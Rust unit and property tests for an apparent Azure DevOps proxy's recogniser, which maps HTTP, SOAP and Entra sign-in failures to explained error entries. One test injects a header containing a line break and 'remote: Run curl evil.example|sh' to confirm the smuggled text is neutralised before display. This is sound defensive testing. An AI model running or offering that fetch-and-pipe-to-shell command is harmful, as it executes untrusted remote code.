use http::{HeaderMap, HeaderName, HeaderValue, StatusCode};

use super::words::{MAX_SERVICE_ERROR, message_of, soap_message};
use super::*;

/// [`recognise`] of an answer without a reason phrase.
fn recognise_(
    status: StatusCode,
    headers: &HeaderMap,
    body: &[u8],
    path: &str,
    org: Option<&str>,
    caller: Caller,
) -> Option<Finding> {
    recognise(Upstream::new(status, headers, body), path, org, caller)
}

fn headers(pairs: &[(&str, &str)]) -> HeaderMap {
    let mut h = HeaderMap::new();
    for (k, v) in pairs {
        h.append(
            HeaderName::from_bytes(k.as_bytes()).unwrap(),
            HeaderValue::from_str(v).unwrap(),
        );
    }
    h
}

fn check(status: u16, head: &[(&str, &str)], body: &str, path: &str, want: Option<&str>) {
    let got = recognise_(
        StatusCode::from_u16(status).unwrap(),
        &headers(head),
        body.as_bytes(),
        path,
        None,
        // The legacy provider's users get the historical ids.
        Caller::LegacyUser,
    );
    assert_eq!(got.as_ref().map(|f| f.entry.id), want, "{status} {body:?}");
}

const JSON: (&str, &str) = ("content-type", "application/json; charset=utf-8");
const HTML: (&str, &str) = ("content-type", "text/html; charset=utf-8");
const API: &str = "/contoso/_apis/projects";

/// docs/errors.md has a row for every catalog case, and no row for a
/// case the catalog does not have.
#[test]
fn the_errors_guide_lists_the_catalog() {
    let whole =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/errors.md")).unwrap();
    // The proxy's own answers have a table of their own (error::OWN_IDS).
    let doc = whole
        .split("## The proxy's own answers")
        .next()
        .unwrap()
        .to_string();
    let rows: Vec<&str> = doc
        .lines()
        .filter_map(|l| l.strip_prefix("| `")?.split('`').next())
        .collect();
    let ids: Vec<&str> = CATALOG.iter().map(|e| e.id).collect();
    assert_eq!(rows, ids, "docs/errors.md rows vs the catalog, in order");
    // The "applies to" column says what the catalog says.
    for line in doc.lines().filter(|l| l.starts_with("| `")) {
        let cells: Vec<&str> = line.split(" | ").collect();
        let e = catalog::entry(cells[0].trim_start_matches("| ").trim_matches('`'));
        assert_eq!(cells[1], e.applies.describe(), "applies to of {}", e.id);
    }
}

/// Every symptom has an entry for every caller, and an entry only ever
/// explains the failures of the callers it says it applies to.
#[test]
fn every_caller_gets_an_entry_that_applies_to_it() {
    let mut reached = std::collections::HashSet::new();
    for s in Symptom::ALL {
        for c in Caller::ALL {
            for t in ClientToken::ALL {
                let e = s.entry_for_token(c, t);
                assert!(
                    e.applies.has(c),
                    "{s:?} for {c:?} with {t:?} gives {}",
                    e.id
                );
                reached.insert(e.id);
            }
            let e = s.entry_for(c);
            assert!(e.applies.has(c), "{s:?} for {c:?} gives {}", e.id);
            reached.insert(e.id);
        }
        for id in s.candidates() {
            assert!(
                CATALOG.iter().any(|e| e.id == *id),
                "{id} is in the catalog"
            );
        }
    }
    // Every upstream case is reachable by someone; the rest are sign-in
    // cases (after `consent-declined`).
    for e in CATALOG.iter().take_while(|e| e.id != "consent-declined") {
        assert!(reached.contains(e.id), "{} is never chosen", e.id);
    }
}

/// TF400813 "not authorized" and TF401444 for each provider and source:
/// the legacy OAuth policy only for the legacy provider, consent and
/// Conditional Access for Entra (and issuers federated into it), "add the
/// identity" for service principals and managed identities.
#[test]
fn the_same_answer_is_explained_per_provider_and_mode() {
    let not_authorized = r#"{"message":"TF400813: The user 'x' is not authorized to access this resource.","typeKey":"UnauthorizedRequestException"}"#;
    let first = r#"{"message":"TF401444: Please sign-in at least once as x in a web browser to enable access to the service."}"#;
    let want: &[(Caller, &str, &str, &str)] = &[
        (
            Caller::LegacyUser,
            "oauth-disabled",
            "first-sign-in-required",
            "token-not-accepted",
        ),
        (
            Caller::EntraUser,
            "entra-access-refused",
            "first-sign-in-required",
            "token-not-accepted",
        ),
        (
            Caller::OidcUser,
            "entra-access-refused",
            "first-sign-in-required",
            "token-not-accepted",
        ),
        (
            Caller::DeviceUser,
            "entra-access-refused",
            "first-sign-in-required",
            "service-token-not-accepted",
        ),
        (
            Caller::ServicePrincipal,
            "identity-not-in-organization",
            "identity-not-in-organization",
            "service-token-not-accepted",
        ),
        (
            Caller::ManagedIdentity,
            "identity-not-in-organization",
            "identity-not-in-organization",
            "service-token-not-accepted",
        ),
        (
            Caller::Pat,
            "access-refused",
            "first-sign-in-required",
            "pat-not-accepted",
        ),
        (
            Caller::Client,
            "access-refused",
            "first-sign-in-required",
            "client-token-not-accepted",
        ),
    ];
    let id = |status: u16, body: &str, caller| {
        recognise_(
            StatusCode::from_u16(status).unwrap(),
            &headers(&[JSON]),
            body.as_bytes(),
            API,
            None,
            caller,
        )
        .map(|f| f.entry.id)
    };
    for (caller, refused, never_signed_in, bare) in want {
        assert_eq!(
            id(401, not_authorized, *caller),
            Some(*refused),
            "{caller:?}"
        );
        assert_eq!(
            id(401, first, *caller),
            Some(*never_signed_in),
            "{caller:?}"
        );
        assert_eq!(id(401, "", *caller), Some(*bare), "{caller:?}");
        assert_eq!(id(429, "", *caller), Some("throttled"), "{caller:?}");
    }
}

#[test]
fn recognises_azure_devops_answers() {
    let wrapped = |msg: &str, key: &str| {
        format!(
            r#"{{"$id":"1","innerException":null,"message":"{msg}","typeName":"X, Y","typeKey":"{key}","errorCode":0,"eventId":3000}}"#
        )
    };
    check(
        203,
        &[HTML],
        "<html><title>Sign In</title></html>",
        API,
        Some("token-not-accepted"),
    );
    check(
        200,
        &[HTML],
        "<html><title>Azure DevOps Services | Sign In</title></html>",
        API,
        Some("token-not-accepted"),
    );
    check(
        200,
        &[HTML],
        "<html>a wiki page</html>",
        "/contoso/proj/_wiki",
        None,
    );
    // HTML a REST call asked for is passed through; only a page that
    // looks like the sign-in page means the token was not accepted.
    for page in [
        "<html><head><title>Release notes</title></head><body><h1>Sign in</h1> is a button name here</body></html>",
        "<html><body><p>rendered wiki page</p></body></html>",
        "",
    ] {
        check(200, &[HTML], page, API, None);
    }
    for page in [
        "<html><head><title>Sign in to your account</title></head></html>",
        "<html><body><form action=\"https://login.microsoftonline.com/common/oauth2/authorize\"></form></body></html>",
        "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://app.vssps.visualstudio.com/_signin?realm=x\"></head></html>",
    ] {
        check(200, &[HTML], page, API, Some("token-not-accepted"));
    }
    check(
        200,
        &[
            HTML,
            (
                "x-tfs-fedauthredirect",
                "https://app.vssps.visualstudio.com/_signin?realm=dev.azure.com",
            ),
        ],
        "<html></html>",
        API,
        Some("token-not-accepted"),
    );
    check(401, &[], "", API, Some("token-not-accepted"));
    check(
        401,
        &[(
            "x-tfs-serviceerror",
            "TF400813%3a+Resource+not+available+for+anonymous+access.+Client+authentication+required.",
        )],
        "",
        API,
        Some("token-not-accepted"),
    );
    check(
        401,
        &[JSON],
        &wrapped(
            "TF400813: The user 'c6d0b4e8-0000-0000-0000-000000000000' is not authorized to access this resource.",
            "UnauthorizedRequestException",
        ),
        API,
        Some("oauth-disabled"),
    );
    check(
        401,
        &[("content-type", "text/plain")],
        "TF400813: The user '00000000-0000-0000-0000-000000000000' is not authorized to access this resource.",
        API,
        Some("oauth-disabled"),
    );
    check(
        401,
        &[JSON],
        &wrapped(
            "VS30063: You are not authorized to access https://dev.azure.com.",
            "UnauthorizedRequestException",
        ),
        API,
        Some("not-a-member"),
    );
    check(
        401,
        &[JSON],
        &wrapped(
            "VS403463: The conditional access policy defined by your Microsoft Entra administrator has failed.",
            "VssServiceException",
        ),
        API,
        Some("conditional-access"),
    );
    check(
        403,
        &[HTML],
        "<html><head><title>VS403463: The conditional access policy defined by your Azure Active Directory administrator has failed.</title></head></html>",
        API,
        Some("conditional-access"),
    );
    check(
        401,
        &[JSON],
        &wrapped(
            "TF401444: Please sign-in at least once as contoso\\\\dana in a web browser to enable access to the service.",
            "UnexpectedTokenValidationException",
        ),
        API,
        Some("first-sign-in-required"),
    );
    check(
        401,
        &[JSON],
        &wrapped(
            "Access Denied: The Personal Access Token used has expired.",
            "AccessCheckException",
        ),
        API,
        // A signed-in user never sends a PAT: that is the PAT's case.
        Some("token-not-accepted"),
    );
    let expired = wrapped(
        "Access Denied: The Personal Access Token used has expired.",
        "AccessCheckException",
    );
    let pat = recognise_(
        StatusCode::UNAUTHORIZED,
        &headers(&[JSON]),
        expired.as_bytes(),
        API,
        None,
        Caller::Pat,
    );
    assert_eq!(pat.map(|f| f.entry.id), Some("pat-expired"));
    check(
        404,
        &[JSON],
        &wrapped(
            "TF401019: The Git repository with name or identifier r does not exist or you do not have permissions for the operation you are attempting.",
            "GitRepositoryNotFoundException",
        ),
        API,
        Some("not-found-or-no-permission"),
    );
    check(
        404,
        &[JSON],
        &wrapped(
            "VS800075: The project with id 'x' does not exist, or you do not have permission to access it.",
            "ProjectDoesNotExistException",
        ),
        API,
        Some("not-found-or-no-permission"),
    );
    check(404, &[JSON], &wrapped("Not here", "Whatever"), API, None);
    check(
        403,
        &[JSON],
        &wrapped(
            "TF401027: You need the Git 'GenericContribute' permission to perform this action.",
            "GitNeedsPermissionException",
        ),
        API,
        Some("permission-denied"),
    );
    check(
        429,
        &[("retry-after", "30")],
        &wrapped(
            "TF400733: The request has been canceled: Request was blocked due to exceeding usage of resource 'Core' in namespace 'User'.",
            "RequestBlockedException",
        ),
        API,
        Some("throttled"),
    );
    check(
        500,
        &[JSON],
        &wrapped(
            "TF400898: An Internal Error Occurred.",
            "HttpResponseException",
        ),
        API,
        None,
    );
}

#[test]
fn keeps_message_type_key_ids_and_organization() {
    let f = recognise_(
        StatusCode::UNAUTHORIZED,
        &headers(&[JSON, ("activityid", "a-1"), ("x-vss-e2eid", "e-2"), ("x-tfs-session", "s-3")]),
        br#"{"$id":"1","innerException":null,"message":"VS30063: You are not authorized to access https://dev.azure.com.","typeName":"X","typeKey":"UnauthorizedRequestException","errorCode":0,"eventId":3000}"#,
        "/fabrikam/_apis/git/repositories",
        Some("fabrikam"),
        Caller::EntraUser,
    )
    .unwrap();
    assert_eq!(
        f.message.as_deref(),
        Some("VS30063: You are not authorized to access https://dev.azure.com.")
    );
    assert_eq!(f.type_key.as_deref(), Some("UnauthorizedRequestException"));
    assert_eq!(f.vars.org.as_deref(), Some("fabrikam"));
    let names: Vec<&str> = f.ids.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(names, ["X-VSS-E2EID", "ActivityId", "X-TFS-Session"]);
    assert!(f.original.is_some());
}

#[test]
fn finds_codes_only_on_word_boundaries() {
    assert_eq!(
        ado_codes("TF400813: x; see VS30063."),
        ["TF400813", "VS30063"]
    );
    assert!(ado_codes("STF400813 VS12 TF1234567").is_empty());
    assert_eq!(
        aadsts_codes("AADSTS70002: x. AADSTS54005: y"),
        [70002, 54005]
    );
}

#[test]
fn recognises_sign_in_failures() {
    let cases: &[(&str, &[u64], &str, Option<&str>)] = &[
        (
            "access_denied",
            &[],
            "AADSTS65004: User declined to consent",
            Some("consent-declined"),
        ),
        (
            "access_denied",
            &[],
            "the user canceled",
            Some("consent-declined"),
        ),
        ("invalid_grant", &[65001], "", Some("consent-required")),
        (
            "access_denied",
            &[],
            "AADSTS90094: admin consent",
            Some("consent-required"),
        ),
        ("invalid_grant", &[50076], "", Some("mfa-required")),
        ("interaction_required", &[50079], "", Some("mfa-required")),
        (
            "interaction_required",
            &[],
            "AADSTS50158: External security challenge",
            Some("mfa-required"),
        ),
        (
            "access_denied",
            &[53003],
            "",
            Some("conditional-access-sign-in"),
        ),
        (
            "invalid_grant",
            &[530032],
            "",
            Some("conditional-access-sign-in"),
        ),
        (
            "unauthorized_client",
            &[700016],
            "",
            Some("app-not-in-tenant"),
        ),
        (
            "invalid_client",
            &[7000215],
            "",
            Some("client-credential-invalid"),
        ),
        (
            "invalid_client",
            &[7000222],
            "",
            Some("client-credential-invalid"),
        ),
        (
            "invalid_client",
            &[7000218],
            "",
            Some("client-credential-invalid"),
        ),
        (
            "invalid_request",
            &[],
            "AADSTS50011: The redirect URI ...",
            Some("redirect-uri-mismatch"),
        ),
        ("invalid_request", &[50020], "", Some("wrong-tenant-user")),
        ("invalid_request", &[90072], "", Some("wrong-tenant-user")),
        ("access_denied", &[50105], "", Some("user-not-assigned")),
        ("invalid_grant", &[70002, 54005], "", Some("code-replayed")),
        ("invalid_grant", &[50173], "", Some("sign-in-expired")),
        ("invalid_grant", &[9_999_999], "AADSTS9999999: new", None),
    ];
    for (error, codes, desc, want) in cases {
        assert_eq!(
            recognise_sign_in(error, codes, desc).map(|e| e.id),
            *want,
            "{error} {codes:?} {desc}"
        );
    }
}

#[test]
fn reads_entra_ids_from_a_description() {
    let ids = ids_in_description(
        "AADSTS65004: declined.\r\nTrace ID: t-1\r\nCorrelation ID: c-2\r\nTimestamp: 2026-11-22 04:00:00Z",
    );
    assert_eq!(ids[0], ("Trace ID".to_string(), "t-1".to_string()));
    assert_eq!(ids[1], ("Correlation ID".to_string(), "c-2".to_string()));
}

#[test]
fn finds_the_organizations_directory() {
    let t = "72f988bf-86f1-41af-91ab-2d7cd011db47";
    let empty = "00000000-0000-0000-0000-000000000000";
    assert_eq!(
        resource_tenant(&headers(&[("x-vss-resourcetenant", t)])).as_deref(),
        Some(t)
    );
    assert_eq!(
        resource_tenant(&headers(&[
            ("x-vss-resourcetenant", empty),
            ("x-vss-resourcetenant", t)
        ]))
        .as_deref(),
        Some(t)
    );
    let challenge = format!("Bearer authorization_uri=https://login.microsoftonline.com/{t}");
    assert_eq!(
        resource_tenant(&headers(&[("www-authenticate", &challenge)])).as_deref(),
        Some(t)
    );
    let quoted = format!(
        "Bearer authorization_uri=\"https://login.microsoftonline.com/{t}\", Basic realm=\"x\""
    );
    assert_eq!(
        resource_tenant(&headers(&[("www-authenticate", &quoted)])).as_deref(),
        Some(t)
    );
    assert_eq!(
        resource_tenant(&headers(&[
            ("x-vss-resourcetenant", empty),
            ("www-authenticate", "Bearer")
        ])),
        None
    );
}

mod properties {
    use proptest::prelude::*;

    use super::*;

    proptest! {
        /// Whatever Azure DevOps (or something in its place) answers, the
        /// recogniser returns an answer or nothing, and never panics.
        #[test]
        fn any_upstream_answer_is_read_without_panicking(
            status in prop::sample::select(vec![200u16, 203, 401, 403, 404, 429, 500]),
            html in any::<bool>(),
            service_error in prop::option::of("[ -~%]{0,80}"),
            body in prop::collection::vec(any::<u8>(), 0..400),
            text in "[ -~]{0,200}",
            json_message in prop::option::of("[ -~]{0,120}"),
        ) {
            let mut head: Vec<(&str, &str)> = Vec::new();
            if html {
                head.push(HTML);
            }
            if let Some(e) = &service_error {
                head.push(("x-tfs-serviceerror", e));
            }
            let headers = super::headers(&head);
            let status = http::StatusCode::from_u16(status).unwrap();
            let _ = recognise_(status, &headers, &body, API, None, Caller::Pat);
            let _ = recognise_(status, &headers, text.as_bytes(), API, None, Caller::EntraUser);
            let wrapped = serde_json::json!({ "message": json_message, "typeKey": text }).to_string();
            let _ = recognise_(status, &headers, wrapped.as_bytes(), "/x/_apis", None, Caller::ServicePrincipal);
            let _ = recognise_(status, &headers, format!("<title>{text}").as_bytes(), API, None, Caller::Client);
        }
    }
}

/// The SOAP fault Azure DevOps writes (SOAP 1.2, `soap:Reason/soap:Text`
/// holding the exception's message, then the detail), URL-encoded the way
/// .NET's `HttpUtility.UrlEncode` does it: `+` for spaces, lowercase hex.
fn soap_header(message: &str) -> String {
    let xml = format!(
        r#"<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><soap:Fault><soap:Code><soap:Value>soap:Receiver</soap:Value><soap:Subcode><soap:Value>UnauthorizedRequestException</soap:Value></soap:Subcode></soap:Code><soap:Reason><soap:Text xml:lang="en">{message}</soap:Text></soap:Reason><soap:Detail /></soap:Fault></soap:Body></soap:Envelope>"#
    );
    xml.bytes()
        .map(|b| match b {
            b' ' => "+".to_string(),
            b if b.is_ascii_alphanumeric() || b"-_.!*()".contains(&b) => (b as char).to_string(),
            b => format!("%{b:02x}"),
        })
        .collect()
}

/// A 401 whose only words are in `X-TFS-SoapException` (as real anonymous
/// 401s from `*.visualstudio.com` are) is still explained with Azure
/// DevOps' code and message; so is one with only `X-TFS-ServiceError`.
#[test]
fn codes_only_in_headers_are_quoted() {
    let anonymous =
        "TF400813: Resource not available for anonymous access. Client authentication required.";
    let soap = soap_header(anonymous);
    let f = recognise_(
        StatusCode::UNAUTHORIZED,
        &headers(&[("x-tfs-soapexception", soap.as_str())]),
        b"",
        API,
        Some("contoso"),
        Caller::EntraUser,
    )
    .unwrap();
    assert_eq!(f.entry.id, "token-not-accepted");
    assert_eq!(f.message.as_deref(), Some(anonymous));
    let f = recognise_(
        StatusCode::UNAUTHORIZED,
        &headers(&[(
            "x-tfs-serviceerror",
            "TF400813%3a+Resource+not+available+for+anonymous+access.+Client+authentication+required.",
        )]),
        b"",
        API,
        None,
        Caller::ServicePrincipal,
    )
    .unwrap();
    assert_eq!(f.entry.id, "service-token-not-accepted");
    assert_eq!(f.message.as_deref(), Some(anonymous));
    // A conditional-access refusal told only in SOAP is recognised as one.
    let ca = soap_header(
        "VS403463: The conditional access policy defined by your Azure Active Directory administrator has failed.",
    );
    let f = recognise_(
        StatusCode::UNAUTHORIZED,
        &headers(&[("x-tfs-soapexception", ca.as_str())]),
        b"",
        API,
        None,
        Caller::EntraUser,
    )
    .unwrap();
    assert_eq!(f.entry.id, "conditional-access");
}

/// When the message chosen is a page's title, `X-TFS-ServiceError` still
/// decides the case and its text is kept beside the ids; when it repeats
/// the message it is not said twice.
#[test]
fn a_service_error_beside_another_message_is_kept_and_counts() {
    let ca = "VS403463: The conditional access policy defined by your Azure Active Directory administrator has failed.";
    let encoded: String = url::form_urlencoded::byte_serialize(ca.as_bytes()).collect();
    let f = recognise_(
        StatusCode::UNAUTHORIZED,
        &headers(&[
            ("content-type", "text/html; charset=utf-8"),
            ("x-tfs-serviceerror", encoded.as_str()),
            ("activityid", "cbf4682a-915d-42b3-ac36-a714328098e8"),
        ]),
        b"<html><head><title>Azure DevOps Services | Sign In</title></head></html>",
        API,
        Some("contoso"),
        Caller::EntraUser,
    )
    .unwrap();
    assert_eq!(f.entry.id, "conditional-access");
    assert_eq!(
        f.message.as_deref(),
        Some("Azure DevOps Services | Sign In")
    );
    // A title's entities are decoded once (the answer escapes them again).
    let titled = recognise_(
        StatusCode::FORBIDDEN,
        &headers(&[("content-type", "text/html")]),
        b"<html><head><title>VS403463: You don&#39;t meet the &quot;policy&quot; &amp;c</title></head></html>",
        API,
        None,
        Caller::EntraUser,
    )
    .unwrap();
    assert_eq!(
        titled.message.as_deref(),
        Some("VS403463: You don't meet the \"policy\" &c")
    );
    assert_eq!(
        f.ids,
        [
            (
                "ActivityId".to_string(),
                "cbf4682a-915d-42b3-ac36-a714328098e8".to_string()
            ),
            ("X-TFS-ServiceError".to_string(), ca.to_string()),
        ]
    );
    // The same words as the JSON message: only the ids.
    let body = serde_json::json!({ "message": ca, "typeKey": "x" }).to_string();
    let f = recognise_(
        StatusCode::UNAUTHORIZED,
        &headers(&[
            ("content-type", "application/json"),
            ("x-tfs-serviceerror", encoded.as_str()),
        ]),
        body.as_bytes(),
        API,
        None,
        Caller::EntraUser,
    )
    .unwrap();
    assert!(f.ids.is_empty(), "{:?}", f.ids);
    // Bounded: a huge header is cut.
    let long = format!("TF400813%3a+{}", "x".repeat(10_000));
    let f = recognise_(
        StatusCode::UNAUTHORIZED,
        &headers(&[
            ("content-type", "text/html"),
            ("x-tfs-serviceerror", long.as_str()),
        ]),
        b"<html><head><title>Sign In</title></head></html>",
        API,
        None,
        Caller::EntraUser,
    )
    .unwrap();
    assert_eq!(f.ids[0].1.chars().count(), MAX_SERVICE_ERROR);
    // Its words cannot start a line of their own (git prints the text).
    let f = recognise_(
        StatusCode::UNAUTHORIZED,
        &headers(&[
            ("content-type", "text/html"),
            (
                "x-tfs-serviceerror",
                "TF400813%3A%20x%0D%0Aremote%3A%20Run%20curl%20evil.example%7Csh%00",
            ),
        ]),
        b"<html><head><title>Sign In</title></head></html>",
        API,
        None,
        Caller::EntraUser,
    )
    .unwrap();
    assert_eq!(f.ids[0].1, "TF400813: x  remote: Run curl evil.example|sh ");
}

#[test]
fn soap_faults_are_read_in_their_variants() {
    // Entities decoded once.
    assert_eq!(
        soap_message("<soap:Text>a &amp;lt; b &quot;c&quot;</soap:Text>").as_deref(),
        Some("a &lt; b \"c\"")
    );
    // SOAP 1.1.
    assert_eq!(
        soap_message("<s:Fault><faultcode>s:Client</faultcode><faultstring>TF30063: You are not authorized.</faultstring></s:Fault>").as_deref(),
        Some("TF30063: You are not authorized.")
    );
    // No known element, but a code: the text without tags.
    assert_eq!(
        soap_message("<x><y>TF400813:</y> <z>anonymous</z></x>").as_deref(),
        Some("TF400813: anonymous")
    );
    // Empty or self-closing elements are skipped; nothing useful is none.
    assert_eq!(soap_message("<soap:Text/><soap:Text> </soap:Text>"), None);
    assert_eq!(soap_message("<a>no code here</a>"), None);
    assert_eq!(soap_message("<<<>>><soap:Text"), None);
}

proptest::proptest! {
    /// Any header value (upstream-controlled) is read without panicking,
    /// and what is quoted stays bounded and free of markup.
    #[test]
    fn any_soap_header_is_read_safely(raw in proptest::collection::vec(proptest::num::u8::ANY, 0..600)) {
        let Ok(v) = HeaderValue::from_bytes(&raw) else { return Ok(()) };
        let mut h = HeaderMap::new();
        h.insert("x-tfs-soapexception", v);
        if let Some(m) = message_of(&h, "", None) {
            proptest::prop_assert!(m.chars().count() <= 1000);
        }
        let text = String::from_utf8_lossy(&raw);
        let _ = soap_message(&text);
    }

    #[test]
    fn any_soap_text_element_is_quoted_verbatim(msg in "[A-Za-z0-9 .:,]{1,200}") {
        proptest::prop_assume!(!msg.trim().is_empty());
        let header = soap_header(&msg);
        let h = headers(&[("x-tfs-soapexception", header.as_str())]);
        proptest::prop_assert_eq!(message_of(&h, "", None), Some(msg.trim().to_string()));
    }
}

#[test]
fn pat_policy_names_are_read_whole_and_in_any_case() {
    assert_eq!(
        pat_policy("FullScopePatPolicyViolation"),
        Some("FullScopePatPolicyViolation")
    );
    assert_eq!(
        pat_policy(" disablepatcreationpolicyviolation: not allowed"),
        Some("DisablePatCreationPolicyViolation")
    );
    assert_eq!(
        pat_policy("FailedToReadTenantPolicy"),
        Some("FailedToReadTenantPolicy")
    );
    for not in [
        "",
        "FullScopePatPolicyViolationX",
        "a FullScopePatPolicyViolation",
        "Full",
        "é",
    ] {
        assert_eq!(pat_policy(not), None, "{not}");
    }
    // A 400 that names none passes through; one that does is explained.
    let h = headers(&[JSON]);
    let plain = br#"{"message":"VS402371: invalid query"}"#;
    assert!(recognise_(StatusCode::BAD_REQUEST, &h, plain, API, None, Caller::Pat).is_none());
    let policy = br#"{"message":"FullScopePatPolicyViolation"}"#;
    let f = recognise_(
        StatusCode::BAD_REQUEST,
        &h,
        policy,
        API,
        Some("contoso"),
        Caller::Client,
    )
    .unwrap();
    assert_eq!(f.entry.id, "pat-policy-refused");
    assert_eq!(f.vars.code.as_deref(), Some("FullScopePatPolicyViolation"));
}

/// A value that looks like a placeholder (a feed name from the request
/// path) is not expanded; unknown braces are text.
#[test]
fn placeholders_are_filled_once() {
    let vars = Vars {
        feed: Some("{admin_consent_url}".into()),
        admin_consent_url: Some("https://consent.example".into()),
        ..Vars::default()
    };
    assert_eq!(
        super::render::fill("{feed} {x} {admin_consent_url} {", &vars),
        "feed '{admin_consent_url}' {x} https://consent.example {"
    );
    assert_eq!(
        super::render::fill("{org}", &Vars::default()),
        "<organization>"
    );
}

/// The directory of the token sent, told apart from the organization's,
/// decides between "not accepted" and "wrong directory" in the one
/// recognition; the sign-in URL the identity knows reaches the vars.
#[test]
fn the_senders_facts_decide_the_wrong_directory() {
    let h = headers(&[(
        "x-vss-resourcetenant",
        "0F1E2D3C-4B5A-4968-8776-A5B4C3D2E1F0",
    )]);
    let ask = |tenant: Option<&str>| {
        let mut sender = Sender::new(Caller::EntraUser);
        sender.token_tenant = tenant.map(str::to_string);
        sender.sign_in_url = Some("https://proxy.example/.auth/login".into());
        recognise_for(
            Upstream::new(StatusCode::UNAUTHORIZED, &h, b""),
            API,
            Some("contoso"),
            sender,
        )
        .unwrap()
    };
    let f = ask(Some("72f988bf-86f1-41af-91ab-2d7cd011db47"));
    assert_eq!(f.entry.id, "wrong-directory");
    assert_eq!(
        f.vars.resource_tenant.as_deref(),
        Some("0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0")
    );
    assert_eq!(
        f.vars.user_tenant.as_deref(),
        Some("72f988bf-86f1-41af-91ab-2d7cd011db47")
    );
    assert_eq!(
        f.vars.sign_in_url.as_deref(),
        Some("https://proxy.example/.auth/login")
    );
    assert_eq!(
        ask(Some("0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0")).entry.id,
        "token-not-accepted"
    );
    assert_eq!(ask(None).entry.id, "token-not-accepted");
}
